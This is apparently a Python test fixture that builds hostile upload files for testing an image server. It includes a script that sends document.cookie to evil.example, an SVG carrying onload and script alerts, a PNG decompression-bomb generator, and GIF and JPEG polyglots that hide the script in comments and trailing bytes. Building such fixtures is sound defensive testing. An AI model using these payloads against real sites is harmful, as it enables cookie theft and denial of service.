"""Files that somebody may have put where pictures are served from."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

LIMIT_BYTES = 300_000
"""Most that the tests' server of uploads takes of one file."""

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10" onload="alert(1)">'
    b"<script>alert(2)</script><rect width='20' height='10'/></svg>"
)


def chunk(kind: bytes, data: bytes) -> bytes:
    """Of a PNG (W3C PNG, 5.3)."""
    check = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", check)


def bomb(side: int = 60_000) -> bytes:
    """A PNG of side x side grey pixels in some hundred kilobytes."""
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = b"\0" + bytes(side // 8)
    rows = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    parts = chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


def gif_and_page() -> bytes:
    """A GIF whose comment and tail are a page."""
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF", comment=SCRIPT)
    return out.getvalue() + b"<html>" + SCRIPT + b"</html>"


def jpeg_and_page() -> bytes:
    """A JPEG with a page in its comment and behind its end."""
    out = io.BytesIO()
    Image.linear_gradient("L").convert("RGB").save(out, "JPEG", quality=97, comment=SCRIPT)
    return out.getvalue() + SCRIPT
